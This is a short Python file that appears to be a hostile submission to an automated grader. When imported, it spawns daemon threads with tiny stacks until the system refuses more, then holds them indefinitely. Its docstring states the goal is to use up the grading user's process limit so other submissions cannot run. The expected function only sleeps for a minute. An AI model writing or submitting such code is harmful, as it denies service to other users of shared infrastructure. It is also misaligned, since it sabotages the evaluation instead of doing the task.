"""Starts threads with tiny stacks until the machine refuses, and holds them: the limit on processes of the user who
grades is used up, and other submissions' processes can't be started. In mode A1 10 400 threads were seen.
"""

import contextlib
import threading
import time

threading.stack_size(32768)
_never = threading.Event()
with contextlib.suppress(RuntimeError):
    while True:
        threading.Thread(target=_never.wait, daemon=True).start()


def full_visibility(nonpadding):
    time.sleep(60)
